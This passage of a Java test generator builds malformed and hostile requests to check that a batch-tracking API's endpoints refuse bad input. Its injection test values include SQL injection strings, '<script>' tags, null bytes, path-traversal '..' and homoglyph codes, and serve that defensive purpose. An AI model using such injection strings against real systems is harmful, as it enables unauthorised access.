            return volume.signum() > 0 ? volume : volume.add(BigDecimal.ONE.movePointLeft(places));
        }

        /** The instant in seconds, milliseconds, microseconds or nanoseconds. */
        private Instant precision(Instant instant) {
            return instant.truncatedTo(pick(List.of(ChronoUnit.SECONDS, ChronoUnit.MILLIS, ChronoUnit.MICROS,
                    ChronoUnit.NANOS)));
        }

        /** A step whose stage data alone is broken, in one to three places. */
        private Case hostileStageData(String path) {
            ObjectNode body = stepBody(pick(SAMPLE_STAGES));
            rawTexts.clear();
            List<String> applied = new ArrayList<>();
            List<String> mutated = new ArrayList<>();
            int mutations = 1 + random.nextInt(3);
            for (int i = 0; i < mutations; i++) {
                applied.add(mutateStageData(body, mutated).orElseThrow());
            }
            return new Case(endpoint, name(applied), path, serialize(body), null, false, null, STEP_REFUSALS,
                    mutated);
        }

        /**
         * Breaks the step's data in one place, adding the place's path to {@code mutated}, and says
         * how; empty when the body no longer holds the data the step started with.
         */
        private Optional<String> mutateStageData(ObjectNode body, List<String> mutated) {
            if (!(body.get("data") instanceof ObjectNode data)) {
                return Optional.empty();
            }
            Class<?> type = StageDataReader.typeOf(Stage.valueOf(stage)).orElseThrow();
            List<Slot> slots = new ArrayList<>();
            slots(data, type, "data.", slots);
            int choice = random.nextInt(slots.size() + 1);
            if (choice == slots.size()) {
                String unknown = pick(UNKNOWN_NAMES.stream().filter(name -> !isComponent(type, name)).toList());
                data.set(unknown, anyValue());
                mutated.add("data." + unknown);
                return Optional.of(stage + " data with unknown member '" + unknown + "'");
            }
            Slot slot = slots.get(choice);
            mutated.add(slot.path());
            return Optional.of(stage + " " + slot.path() + " " + mutate(slot));
        }

        /** Breaks one place of stage data in a way its type and constraints refuse, and says how. */
        private String mutate(Slot slot) {
            List<String> kinds = new ArrayList<>(List.of("hostile text", "wrong type"));
            if (slot.isNumber()) {
                kinds.add("out of range");
                kinds.add("unrepresentable");
            }
            if (slot.type().equals(Instant.class)) {
                kinds.add("implausible instant");
            }
            if (slot.type().equals(List.class)) {
                kinds.add("too many items");
            }
            if (slot.isText()) {
                kinds.add("lone surrogate");
            }
            if (slot.required()) {
                kinds.add("null");
                if (slot.index() < 0) {
                    kinds.add("removed");
                }
            }
            if (slot.type().equals(List.class) && slot.constraint(Size.class) != null
                    && slot.constraint(Size.class).min() > 0) {
                kinds.add("empty list");
            }
            if (slot.type().isRecord() && slot.value() instanceof ObjectNode) {
                kinds.add("unknown member");
            }
            String kind = pick(kinds);
            JsonNodeFactory nodes = JsonNodeFactory.instance;
            switch (kind) {
                case "hostile text" -> {
                    List<String> texts = HOSTILE_TEXT.stream().filter(slot::refuses).toList();
                    String text = pick(texts);
                    slot.set(nodes.textNode(text));
                    return "= hostile text (" + text.length() + " chars)";
                }
                case "wrong type" -> {
                    JsonNode wrong = pick(wrongTypesFor(slot));
                    slot.set(wrong);
                    return "of wrong type " + wrong.getNodeType();
                }
                case "out of range" -> {
                    JsonNode number = pick(outOfRange(slot));
                    slot.set(number);
                    return "= " + number + " (out of range)";
                }
                case "unrepresentable" -> {
                    String number = pick(UNREPRESENTABLE_NUMBERS);
                    slot.set(nodes.textNode(raw(number)));
                    return "= " + number;
                }
                case "implausible instant" -> {
                    String instant = pick(IMPLAUSIBLE_INSTANTS);
                    slot.set(nodes.textNode(instant));
                    return "= implausible " + instant;
                }
                case "too many items" -> {
                    ArrayNode items = nodes.arrayNode();
                    boolean tiny = random.nextBoolean();
                    int count = tiny ? 100_000 : slot.constraint(Size.class).max() + 1;
                    JsonNode item = tiny || slot.value().isEmpty() ? nodes.objectNode() : slot.value().get(0);
                    for (int i = 0; i < count; i++) {
                        items.add(item);
                    }
                    slot.set(items);
                    return "with " + count + " items";
                }
                case "lone surrogate" -> {
                    slot.set(nodes.textNode(raw("\"" + pick(List.of("\\ud800", "A\\udc00", "V2V\\udbff-01")) + "\"")));
                    return "with a lone surrogate";
                }
                case "null" -> {
                    slot.set(nodes.nullNode());
                    return "= null";
                }
                case "removed" -> {
                    ((ObjectNode) slot.container()).remove(slot.name());
                    return "removed";
                }
                case "empty list" -> {
                    slot.set(nodes.arrayNode());
                    return "= []";
                }
                default -> {
                    String unknown = pick(UNKNOWN_NAMES.stream().filter(name -> !isComponent(slot.type(), name)).toList());
                    ((ObjectNode) slot.value()).set(unknown, anyValue());
                    return "with unknown member '" + unknown + "'";
                }
            }
        }

        private List<JsonNode> wrongTypesFor(Slot slot) {
            JsonNodeFactory nodes = JsonNodeFactory.instance;
            List<JsonNode> values = new ArrayList<>(List.of(nodes.booleanNode(true), nodes.booleanNode(false),
                    nodes.arrayNode().add("SITE-LYON-01"), nodes.objectNode().put("value", "SITE-LYON-01")));
            if (!slot.isNumber()) {
                values.addAll(List.of(nodes.numberNode(0), nodes.numberNode(-1), nodes.numberNode(Long.MAX_VALUE),
                        nodes.numberNode(new BigDecimal("1e400")), nodes.numberNode(3.14)));
            } else {
                values.addAll(List.of(nodes.textNode("210"), nodes.textNode("NaN"), nodes.textNode("1e3")));
            }
            if (slot.type().equals(List.class)) {
                values.removeIf(JsonNode::isArray);
                values.add(nodes.textNode("V2V7K3Q9P2XRTB-01"));
            }
            if (slot.type().isRecord()) {
                values.removeIf(JsonNode::isObject);
                values.add(nodes.arrayNode().add(nodes.objectNode()));
            }
            return values;
        }

        /** Numbers beyond the slot's bounds, beyond a long's, or not whole where a count belongs. */
        private static List<JsonNode> outOfRange(Slot slot) {
            JsonNodeFactory nodes = JsonNodeFactory.instance;
            List<JsonNode> values = new ArrayList<>();
            if (slot.type().equals(BigDecimal.class)) {
                DecimalMax max = slot.constraint(DecimalMax.class);
                DecimalMin min = slot.constraint(DecimalMin.class);
                if (max != null) {
                    values.add(nodes.numberNode(new BigDecimal(max.value()).add(new BigDecimal("0.001"))));
                    values.add(nodes.numberNode(new BigDecimal("1e400")));
                }
                if (min != null) {
                    BigDecimal bound = new BigDecimal(min.value());
                    values.add(nodes.numberNode(min.inclusive() ? bound.subtract(new BigDecimal("0.001")) : bound));
                    values.add(nodes.numberNode(new BigDecimal("-1e400")));
                }
                if (max == null || min == null) {
                    throw new IllegalStateException(slot.owner() + " has no range this test knows to break");
                }
                Digits digits = slot.constraint(Digits.class);
                if (digits == null) {
                    throw new IllegalStateException(slot.owner() + " has no precision this test knows to break");
                }
                // Within every decimal field's range, one decimal place too many.
                values.add(nodes.numberNode(BigDecimal.ONE.movePointLeft(digits.fraction() + 1)));
            } else {
                Max max = slot.constraint(Max.class);
                if (max != null) {
                    values.add(nodes.numberNode(max.value() + 1));
                }
                if (slot.constraint(PositiveOrZero.class) != null) {
                    values.add(nodes.numberNode(-1));
                }
                values.add(nodes.numberNode(new java.math.BigInteger("99999999999999999999999")));
                values.add(nodes.numberNode(new BigDecimal("1e400")));
                values.add(nodes.numberNode(new BigDecimal("2.5")));
            }
            return values;
        }

        /** The places of stage data: members of its objects and elements of its lists, as their record types say. */
        private static void slots(ObjectNode object, Class<?> record, String prefix, List<Slot> slots) {
            for (RecordComponent component : record.getRecordComponents()) {
                JsonNode value = object.get(component.getName());
                if (value == null) {
                    continue;
                }
                Field field;
                try {
                    field = record.getDeclaredField(component.getName());
                } catch (NoSuchFieldException e) {
                    throw new IllegalStateException(e);
                }
                String path = prefix + component.getName();
                String owner = record.getSimpleName() + "." + component.getName();
                slots.add(new Slot(object, component.getName(), -1, component.getType(), field.getAnnotations(),
                        path, owner));
                if (component.getType().isRecord() && value instanceof ObjectNode member) {
                    slots(member, component.getType(), path + ".", slots);
                }
                if (component.getType().equals(List.class) && value instanceof ArrayNode list) {
                    AnnotatedType element = ((AnnotatedParameterizedType) field.getAnnotatedType())
                            .getAnnotatedActualTypeArguments()[0];
                    Class<?> elementType = (Class<?>) element.getType();
                    for (int i = 0; i < list.size(); i++) {
                        slots.add(new Slot(list, null, i, elementType, element.getAnnotations(), path + "[" + i + "]",
                                owner));
                        if (elementType.isRecord() && list.get(i) instanceof ObjectNode member) {
                            slots(member, elementType, path + "[" + i + "].", slots);
                        }
                    }
                }
            }
        }

        private static boolean isComponent(Class<?> type, String name) {
            return type.isRecord() && Arrays.stream(type.getRecordComponents())
                    .anyMatch(component -> component.getName().equals(name));
        }

        /** A valid step to a COI that is not the batch's: a typo is refused, a well-formed unknown one not found. */
        private Case corruptedCoi(String coi) {
            String last = coi.substring(coi.length() - 1);
            String corrupted = switch (random.nextInt(6)) {
                case 0 -> coi.substring(0, coi.length() - 1)
                        + pick(CHECK_CHARACTERS.stream().filter(c -> !c.equals(last)).toList());
                case 1 -> swappedNeighbours(coi);
                case 2 -> coi.toLowerCase(Locale.ROOT);
                case 3 -> coi + pick(CHECK_CHARACTERS);
                case 4 -> pick(List.of("V2V' OR '1'='1", "<script>", "V2V\u0406" + coi.substring(4), "\u0000", "..",
                        "V2V7K3Q9P2XRT%", "*"));
                default -> coi.substring(0, coi.length() - 2);
            };
            String path = BATCHES + "/" + URLEncoder.encode(corrupted, StandardCharsets.UTF_8).replace("+", "%20")
                    + "/steps";
            ObjectNode body = validBody();
            return new Case(endpoint, name(List.of("COI " + corrupted)), path, body.toString().getBytes(StandardCharsets.UTF_8),
                    null, false, null);
        }

        private String swappedNeighbours(String coi) {
            List<Integer> positions = IntStream.range(3, coi.length() - 1)
                    .filter(i -> coi.charAt(i) != coi.charAt(i + 1)).boxed().toList();
            int at = pick(positions);
            return coi.substring(0, at) + coi.charAt(at + 1) + coi.charAt(at) + coi.substring(at + 2);
        }

        /**
         * A valid step, site or shipper change under a condition that is malformed or cannot hold; a
         * change of reference data also without one (null), which it must have.
         */
        private Case hostileIfMatch(String path) {
            List<String> conditions = new ArrayList<>(List.of("\"999999\"", "\"0\"", "W/\"2\"", "garbage",
                    "\"2\", \"3\"", "\"-1\"", "\"99999999999999999999\"", "' OR '1'='1", "\"2"));
            if (endpoint.changesReferenceData()) {
                conditions.addAll(Arrays.asList("W/" + SITE_ETAG, SITE_ETAG + ", \"2\"", "*", null));
            }
            String ifMatch = pick(conditions);
            return new Case(endpoint, name(List.of("If-Match " + ifMatch)), path,
                    validBody().toString().getBytes(StandardCharsets.UTF_8), ifMatch, false, null);
        }

        /**
         * A valid change of another site or shipper: a code that is malformed is refused, a well-formed
         * unknown one not found.
         */
        private Case unknownOrMalformedCode(String code) {
            String other = pick(List.of(code.toLowerCase(Locale.ROOT), code + "-2", code.substring(0, 2),
                    "SITE' OR '1'='1", "<script>", "S\u0406TE-HOSTILE", "..", "%00", "SITE HOSTILE", "A".repeat(65)));
            String path = (endpoint == Endpoint.SHIPPER_CHANGE ? SHIPPERS : SITES) + "/"
                    + URLEncoder.encode(other, StandardCharsets.UTF_8).replace("+", "%20");
            return new Case(endpoint, name(List.of("code " + other)), path,
                    validBody().toString().getBytes(StandardCharsets.UTF_8), SITE_ETAG, false, null);
        }

        private String name(List<String> applied) {
            return endpoint.name().toLowerCase(Locale.ROOT) + " #" + count + ": " + String.join(", ",
                    applied.stream().map(description -> description.length() > 80 ? description.substring(0, 80)
                            : description).toList());
        }

        private Mutated utf8(String text, String description) {
            return new Mutated(text.getBytes(StandardCharsets.UTF_8), description);
        }

        private <T> T pick(List<T> values) {
            return values.get(random.nextInt(values.size()));
        }

        private static String now() {
            return Instant.now().truncatedTo(ChronoUnit.MILLIS).toString();
        }

        private static <T> List<T> iterableToList(Iterator<T> iterator) {
            List<T> values = new ArrayList<>();
            iterator.forEachRemaining(values::add);
            return values;
        }

        private record Mutated(byte[] bytes, String description) {
        }
    }

    /**
     * A place in stage data: member {@code name} of an object, or element {@code index} of a list,
     * with the Java type and constraints its record gives it; {@code owner} is Record.component.
     */
    record Slot(ContainerNode<?> container, String name, int index, Class<?> type, Annotation[] constraints,
            String path, String owner) {

        JsonNode value() {
            return index < 0 ? container.get(name) : container.get(index);
        }

        void set(JsonNode value) {
            if (index < 0) {
                ((ObjectNode) container).set(name, value);
            } else {
                ((ArrayNode) container).set(index, value);
            }
        }

        <A extends Annotation> A constraint(Class<A> kind) {
            return Arrays.stream(constraints).filter(kind::isInstance).map(kind::cast).findFirst().orElse(null);
        }

        boolean required() {
            return constraint(NotNull.class) != null;
        }

        boolean isNumber() {
            return Number.class.isAssignableFrom(type);
        }

        boolean isText() {
            return type.equals(String.class) || type.isEnum() || type.equals(Instant.class);
        }

        /** Whether {@code text} is refused here; text is always refused where a number, record or list belongs. */
        boolean refuses(String text) {
            if (type.equals(String.class)) {
                Pattern pattern = constraint(Pattern.class);
                if (pattern != null) {
                    return !text.matches(pattern.regexp());
                }
                if (!Generator.UNPATTERNED_STRINGS.contains(owner)) {
                    throw new IllegalStateException(owner + " has no pattern: which text does it refuse?");
                }
                // A donation id must pass its ISBT 128 checks; a QC unit must be the test's own (%, cells, ...).
                return true;
            }
            if (type.isEnum()) {
                return Arrays.stream(type.getEnumConstants()).map(constant -> ((Enum<?>) constant).name())
                        .noneMatch(text::equals);
            }
            if (type.equals(Instant.class)) {
                try {
                    Instant.parse(text);
                    return false;
                } catch (DateTimeParseException e) {
                    return true;
                }
            }
            return true;
        }
    }
}
